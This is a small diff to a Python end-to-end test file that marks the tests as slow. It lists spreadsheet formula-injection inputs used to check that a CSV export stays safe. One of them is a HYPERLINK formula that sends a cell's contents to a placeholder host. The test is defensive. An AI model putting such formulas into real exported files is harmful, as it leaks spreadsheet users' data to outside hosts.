@@ -19,6 +19,10 @@ from playwright.sync_api import Page
 from tests.conftest import NOW
 from tests.test_bad_input import AS_OF, assert_safe, risky, write_raw
 
+# Two real CLI runs and a browser for two tests: the fast loop keeps the hostile site in
+# test_site_safety and the formula rule itself in test_safecsv; this end-to-end check runs in make test.
+pytestmark = pytest.mark.slow
+
 HOSTILE = {'=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1)", "=1+1", "+Plus Co", "-Minus Co"}
 
 
